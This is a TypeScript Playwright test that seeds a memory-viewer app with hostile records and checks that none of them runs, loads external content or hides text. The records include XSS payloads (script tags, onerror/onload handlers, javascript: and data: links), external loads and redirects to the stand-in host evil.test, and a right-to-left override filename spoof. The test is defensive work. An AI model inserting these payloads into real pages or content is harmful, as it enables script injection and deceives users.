// Records that try to run, load or hide something, wherever a record has text: each is shown as the text that it is.
import type { Browser } from 'playwright-core';
import { expect, it, describe } from 'vitest';
import { hasChromium, openBrowser } from '../helpers/browser.ts';
import { removeFolder } from '../helpers/temp-repo.ts';
import { viewMemory } from '../helpers/view-memory.ts';
import { viewServer } from '../helpers/view-server.ts';

const kinds: Readonly<Record<string, string>> = {
  script: '<script>window.hacked=1</script>',
  'closing script': '</script><script src="https://evil.test/x.js"></script>',
  image: '<img src=x onerror="window.hacked=1">',
  drawing: '<svg/onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x>',
  frame: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'link that runs': '[click](javascript:window.hacked=1) [and](JaVaScRiPt&#58;window.hacked=1)',
  'link that holds a page': '[page](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)',
  'picture from elsewhere': '![p](https://evil.test/p.png) <link rel=stylesheet href=https://evil.test/x.css>',
  entities: '&lt;b&gt; &#x3c;script&#x3e;hacked=1&#x3c;/script&#x3e; &NewLine;',
  base: '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/"><form action=https://evil.test>',
  bidirectional: 'invoice\u202egpj.exe \u2066hidden\u2069 \u200b\u00ad\ufeffzero',
  template: '${window.hacked=1} {{constructor.constructor("hacked=1")()}} %3Cscript%3E',
  long: 'x'.repeat(4000),
};
/** Two records to each kind: what stands in a list, and what stands on the page alone. */
const places = [
  ['title', 'alias', 'fact'],
  ['description', 'body'],
] as const;

function fileOf(where: readonly string[], text: string, at: number): string {
  const of = (name: string, usual: string): string => JSON.stringify(where.includes(name) ? text.slice(0, 300) : usual);
  return [
    '---',
    'type: gotcha',
    `title: ${of('title', `Hostile ${at}`)}`,
    `description: ${of('description', 'A sentence.')}`,
    'created: 2026-11-20T10:00:00Z',
    `aliases: [${of('alias', 'other words')}]`,
    'facts:',
    `  - ${of('fact', 'a fact')}`,
    '---',
    '',
    where.includes('body') ? text : 'A body.',
    '',
  ].join('\n');
}

describe.skipIf(!hasChromium)('hostile records in Chromium', () => {
  it('run nothing, load nothing and hide nothing: on their pages, in lists, in search, in what a session is told', async () => {
    const { repo, home } = await viewMemory();
    const cases = Object.entries(kinds).flatMap(([kind, text]) => places.map((where) => ({ kind, where, text })));
    const ids = cases.map(({ where, text }, at) => {
      const id = `h0st${String(at).padStart(4, '0')}`;
      repo.write(`.claude-mem/observations/2026/11/2026-11-20-hostile-${id}.md`, fileOf(where, text, at));
      return id;
    });
    const server = await viewServer({ cwd: repo.dir, home });
    let browser: Browser | undefined;
    try {
      browser = await openBrowser();
      const page = await (await browser.newContext({ viewport: { width: 1280, height: 800 } })).newPage();
      const complaints: string[] = [];
      page.on('console', (message) => complaints.push(message.text()));
      page.on('pageerror', (error) => complaints.push(error.message));
      page.on('dialog', (dialog) => void dialog.dismiss().then(() => complaints.push('a dialog')));
      page.on('request', (request) => {
        if (!/^(?:data:|http:\/\/127\.0\.0\.1:)/.test(request.url())) complaints.push(request.url());
      });
      await page.goto(server.url);
      const at = (path: string): string => `http://127.0.0.1:${server.port}${path}`;
      const look = async (where: string): Promise<void> => {
        const found = await page.evaluate(() => ({
          hacked: 'hacked' in globalThis,
          elements: [
            ...document.querySelectorAll(
              'main :is(script, iframe, img, object, embed, form[action], base, link, style, meta)',
            ),
          ].length,
          links: [...document.querySelectorAll('main a[href]')]
            .map((link) => (link as HTMLAnchorElement).protocol)
            .filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol)),
          unseen: /[\u202a-\u202e\u2066-\u2069\u200b\ufeff]/.test(document.body.textContent ?? ''),
        }));
        expect([where, found]).toEqual([where, { hacked: false, elements: 0, links: [], unseen: false }]);
      };
      for (const [index, id] of ids.entries()) {
        const { kind, where } = cases[index]!;
        await page.goto(at(`/o/${id}`));
        await page.getByRole('heading', { name: 'Details' }).waitFor();
        await look(`${kind} as ${where.join(', ')}`);
      }
      await page.goto(at('/'));
      await page
        .getByRole('link', { name: /Hostile/ })
        .first()
        .waitFor();
      await look('the stream');
      await page.goto(at('/search?q=hostile'));
      await page
        .getByRole('main')
        .getByRole('link', { name: /Hostile/ })
        .first()
        .waitFor();
      await look('search');
      await page.goto(at('/context'));
      await page.getByLabel('The text that the session gets').waitFor();
      await look('the next session');
      expect(complaints).toEqual([]);
    } finally {
      await browser?.close();
      await server.stop();
      removeFolder(home);
    }
  }, 240_000);
});
